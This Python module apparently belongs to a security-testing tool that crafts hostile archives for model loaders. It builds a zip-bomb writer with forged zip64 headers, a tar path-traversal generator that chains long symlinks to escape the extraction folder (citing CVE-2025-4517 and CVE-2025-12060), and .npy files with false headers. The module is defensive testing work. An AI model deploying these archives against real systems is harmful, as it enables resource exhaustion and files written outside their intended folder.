"""Zip archives: models as Keras writes them, and members that are more than they seem."""

from __future__ import annotations

import io
import json
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Mapping
from pathlib import Path

from caniload.runner.attacking.configs import Config

WEIGHTS, ARRAYS, BOMB = "model.weights.h5", "model.weights.npz", "assets/bomb.bin"
_PIECE = 2**26
_STEPS, _LONG = "abcdefghijklmnop", "d" * 247
"""So many folders of so long names are together just shorter than the longest path of Linux."""
_EPOCH = (1980, 1, 1, 0, 0, 0)


def model(path: Path, config: Config, members: Mapping[str, bytes], version: str) -> None:
    """Write an archive with a configuration and other members; equal content, equal bytes."""
    stated = {"keras_version": version, "date_saved": "2026-11-30@00:00:00"}
    with zipfile.ZipFile(path, "w") as archive:
        written = {
            "metadata.json": json.dumps(stated).encode(),
            "config.json": json.dumps(config).encode(),
            **members,
        }
        for name, content in written.items():
            archive.writestr(zipfile.ZipInfo(name, _EPOCH), content)


def add_zeros(path: Path, name: str, size: int, first: bytes = b"") -> None:
    """Add a member of so many zeros behind ``first``; they take a thousandth of that.

    They come in pieces of 64 MiB. One is deflated once: a flushed piece begins anew, so that it
    may be repeated.
    """
    zeros, count = bytes(_PIECE), size // _PIECE
    packer = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    begun = packer.compress(first) + packer.flush(zlib.Z_FULL_FLUSH)
    piece = packer.compress(zeros) + packer.flush(zlib.Z_FULL_FLUSH)
    end = packer.flush(zlib.Z_FINISH)
    checksum = zlib.crc32(first)
    for _ in range(count):
        checksum = zlib.crc32(zeros, checksum)
    with zipfile.ZipFile(path, "a") as archive:
        info = zipfile.ZipInfo(name, _EPOCH)
        info.compress_type = zipfile.ZIP_DEFLATED
        info.CRC, info.file_size = checksum, len(first) + _PIECE * count
        info.compress_size = len(begun) + len(piece) * count + len(end)
        stream = archive.fp
        if stream is None:
            raise ValueError("the archive is closed")
        stream.seek(archive.start_dir)
        info.header_offset = stream.tell()
        stream.write(info.FileHeader(zip64=True))
        stream.write(begun)
        for _ in range(count):
            stream.write(piece)
        stream.write(end)
        archive.filelist.append(info)
        archive.NameToInfo[name] = info
        archive.start_dir = stream.tell()
        archive._didModify = True  # type: ignore[attr-defined] # noqa: SLF001 - it was by hand


def leading_out(path: Path, name: str) -> None:
    """Write a tar archive whose last member is put beside the folder that it is unpacked in.

    A link on the way stands at the end of a path of links so long that, resolved, it is longer than
    a path may be: who asks where it leads is told a place within (CVE-2025-4517, CVE-2025-12060).
    """
    content, deep, through = b"unpacked", "", []
    with tarfile.open(path, "w") as archive:
        for step in _STEPS:
            archive.addfile(_entry(f"{deep}{_LONG}", tarfile.DIRTYPE))
            archive.addfile(_entry(f"{deep}{step}", tarfile.SYMTYPE, _LONG))
            deep += f"{_LONG}/"
            through.append(step)
        last = "/".join([*through, "l" * 254])
        archive.addfile(_entry(last, tarfile.SYMTYPE, "../" * len(_STEPS)))
        archive.addfile(_entry("beside", tarfile.SYMTYPE, f"{last}/.."))
        info = _entry(f"beside/{name}", tarfile.REGTYPE)
        info.size = len(content)
        archive.addfile(info, io.BytesIO(content))


def _entry(name: str, kind: bytes, leads_to: str = "") -> tarfile.TarInfo:
    info = tarfile.TarInfo(name)
    info.type, info.linkname = kind, leads_to
    info.mode = 0o755
    return info


def arrays(members: Mapping[str, bytes]) -> bytes:
    """Return an ``.npz`` of members as they are given."""
    with io.BytesIO() as stream:
        with zipfile.ZipFile(stream, "w") as archive:
            for name, content in members.items():
                archive.writestr(zipfile.ZipInfo(f"{name}.npy", _EPOCH), content)
        return stream.getvalue()


def array(described: str, shape: str, content: bytes) -> bytes:
    """Return an ``.npy`` with a header of ours: what it declares need not be there."""
    header = f"{{'descr': '{described}', 'fortran_order': False, 'shape': {shape}, }}"
    padded = header + " " * (-(len(header) + 11) % 64) + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(padded)) + padded.encode() + content
